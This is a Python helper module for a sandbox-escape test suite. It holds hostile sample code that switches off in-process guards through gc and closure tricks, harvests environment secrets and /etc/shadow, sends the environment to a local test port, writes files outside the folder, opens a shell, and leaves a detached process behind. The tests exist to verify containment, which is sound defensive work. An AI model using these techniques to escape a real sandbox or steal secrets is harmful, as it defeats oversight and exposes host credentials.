"""Hostile model code for the sandbox escape suite, shared by every caller's tests (code mode through
the harness, GTA Solver/Plot through the tool registry).

``attack(...)`` is Python that first tries to switch off the in-process guards (the closure and
``gc.get_objects()`` tricks from issue 14), then goes for secrets, the network and the host's files,
and collects everything it saw into ``REPORT`` (a string). The tests then check that no canary, host
secret or side effect made it out. ``detach(...)`` leaves a ``fork → setsid → fork`` grandchild that
holds the output pipe.
"""

from __future__ import annotations

import subprocess

CANARY = "canary-sk-5f1d2c9e8b7a"

_ATTACK = r"""
import builtins, gc, os, socket, sys, types
LOG = []
def note(*a):
    LOG.append(" ".join(str(x) for x in a))
# 1. guard bypass: closure cells of the import hook, and the hook's tables found through gc
for cell in getattr(builtins.__import__, "__closure__", None) or ():
    note("closure cell", type(cell.cell_contents).__name__)
bypassed = 0
for obj in gc.get_objects():
    if isinstance(obj, types.FunctionType) and obj.__closure__:
        for cell in obj.__closure__:
            try:
                value = cell.cell_contents
            except ValueError:
                continue
            if isinstance(value, dict) and "socket.__new__" in value:
                value.clear(); bypassed += 1
            if obj.__name__ == "check_path" and isinstance(value, str) and value.startswith("/"):
                cell.cell_contents = "/"; bypassed += 1
            if obj.__name__ == "check_path" and isinstance(value, list):
                value.append("/"); bypassed += 1
note("bypassed", bypassed)
def grab(path, n=4000):
    try:
        with open(path, "rb") as fh:
            note("READ", path, fh.read(n).decode("latin-1"))
    except Exception as e:
        note("no", path, type(e).__name__)
# 2. secrets: our environment, our parents', every process we can see
note("ENV", dict(os.environ))
grab("/proc/self/environ"); grab(f"/proc/{os.getppid()}/environ"); grab("/proc/1/environ")
try:
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            grab(f"/proc/{pid}/environ"); grab(f"/proc/{pid}/cmdline", 500)
except Exception as e:
    note("no /proc listing", type(e).__name__)
grab("/etc/passwd"); grab("/etc/shadow"); grab(HOST_FILE)
try:
    note("root dir", os.listdir("/"))
except Exception as e:
    note("no root listing", type(e).__name__)
# 3. network: a port the test listens on
try:
    s = socket.socket(); s.settimeout(2); s.connect(("127.0.0.1", PORT))
    s.sendall(b"LEAK " + repr(dict(os.environ)).encode())
    note("CONNECTED")
except Exception as e:
    note("no network", type(e).__name__)
# 4. writes outside the folder
for target in (OUTSIDE, "/usr/lib/pwned", "/etc/pwned"):
    try:
        with open(target, "w") as fh:
            fh.write("pwned")
        note("WROTE", target)
    except Exception as e:
        note("no write", target, type(e).__name__)
# 5. a shell
try:
    import subprocess
    note("shell", subprocess.run(["/bin/sh", "-c", "id; env"], capture_output=True, text=True, timeout=5).stdout)
except Exception as e:
    note("no shell", type(e).__name__)
REPORT = "\n".join(LOG)
"""

_DETACH = r"""
import os, sys, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sh", ["/bin/sh", "-c", "sleep 120; : MARKER"])
    os._exit(0)
time.sleep(0.5)
"""


def attack(port: int, outside: str, host_file: str) -> str:
    return f"PORT = {port}\nOUTSIDE = {outside!r}\nHOST_FILE = {host_file!r}\n" + _ATTACK


def detach(marker: str, then: str = "") -> str:
    """A detached grandchild (``marker`` in its command line) holding stdout; ``then`` runs after.
    The in-process guard (which would refuse the fork) is switched off first."""
    return BYPASS + _DETACH.replace("MARKER", marker) + then


def surviving(marker: str) -> list[int]:
    """Host processes whose command line contains ``marker``."""
    import os

    found = []
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as fh:
                    if marker.encode() in fh.read():
                        found.append(int(pid))
            except OSError:
                pass
    return found


BYPASS = r"""
import gc, types
for _obj in gc.get_objects():
    if isinstance(_obj, types.FunctionType) and _obj.__closure__:
        for _cell in _obj.__closure__:
            try:
                _value = _cell.cell_contents
            except ValueError:
                continue
            if isinstance(_value, dict) and "socket.__new__" in _value:
                _value.clear()
            if _obj.__name__ == "check_path" and isinstance(_value, str) and _value.startswith("/"):
                _cell.cell_contents = "/"
"""
"""The gc/closure trick alone: empties the guard's block list and widens its folder to ``/`` (enough to
fork, symlink and open anything as far as the in-process guard is concerned)."""


def wait_until_gone(marker: str, timeout: float = 10.0) -> list[int]:
    """Waits (on the condition, bounded) for processes with ``marker`` to disappear; returns survivors."""
    import time

    deadline = time.monotonic() + timeout
    while True:
        left = surviving(marker)
        if not left or time.monotonic() > deadline:
            return left
        time.sleep(0.05)


def requires_os_sandbox():
    import pytest

    from evaluation.sandbox import find_backend

    backend, why = find_backend()
    return pytest.mark.skipif(backend is None, reason=f"no OS-level sandbox on this machine: {why}")


SECOND_UID = 65534


def as_second_user(script: str, cwd: str) -> subprocess.CompletedProcess[str]:
    """``sh -c script`` as another local user (uid/gid 65534, no groups), started in ``cwd`` the way
    a user who can already enter that folder (a world-writable temp folder) would stand in it."""
    argv = ["setpriv", f"--reuid={SECOND_UID}", f"--regid={SECOND_UID}", "--clear-groups", "sh", "-c", script]
    return subprocess.run(argv, cwd=cwd, capture_output=True, text=True, timeout=60)


def second_user_unavailable() -> str | None:
    """Why no second local user can be played here (``None`` when one can)."""
    import os
    import shutil

    if os.geteuid() != 0:
        return "switching to a second uid needs root"
    if shutil.which("setpriv") is None:
        return "setpriv (util-linux) is not installed"
    probe = subprocess.run(
        ["setpriv", f"--reuid={SECOND_UID}", f"--regid={SECOND_UID}", "--clear-groups", "id", "-u"],
        capture_output=True,
        text=True,
        timeout=30,
    )
    if probe.stdout.strip() != str(SECOND_UID):
        return f"setpriv could not switch to uid {SECOND_UID}: {probe.stderr.strip()[:200]}"
    return None


def wait_for(find, timeout: float = 60.0, what: str = "the condition"):
    """Poll ``find()`` until it returns something truthy (bounded); returns that value."""
    import time

    deadline = time.monotonic() + timeout
    while True:
        found = find()
        if found:
            return found
        assert time.monotonic() < deadline, f"timed out waiting for {what}"
        time.sleep(0.02)
